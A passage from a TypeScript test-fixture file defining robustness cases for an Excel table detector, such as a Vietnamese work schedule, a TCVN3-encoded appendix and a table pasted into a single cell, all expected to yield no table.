    built: "ExcelJS: a lịch công tác (Ngày | Thời gian | Nội dung | Lãnh đạo chủ trì), not a task table",
    build: one({ name: "Lịch tuần", rows: SCHEDULE }),
    expected: { kind: "no-table", hints: { "Lịch tuần": "schedule" } },
  },
  {
    name: "legacy-encoded-header",
    built: "ExcelJS: the whole appendix typed in the TCVN3 (.VnTime) encoding",
    build: one({ name: "Phụ lục", rows: APPENDIX.map((r) => r.map((v) => (typeof v === "string" ? encodeLegacy(v, "tcvn3") : v))) }),
    expected: { kind: "no-table", hints: { "Phụ lục": "legacy" } },
  },
  {
    name: "whole-table-in-one-cell",
    built: "ExcelJS: the table pasted from Word into A1 as one text with tabs and line breaks",
    build: one({ name: "Phụ lục", rows: [[[HEADER, ...BODY].map((r) => r.join("\t")).join("\n")]] }),
    expected: { kind: "no-table", hints: { "Phụ lục": "no-header" } },
  },
];

/** Every case: the first round, then resource exhaustion and misreading (issue 12). */
export const HOSTILE_CASES: HostileCase[] = [...FIRST_ROUND, ...LIMIT_CASES, ...XML_CASES];
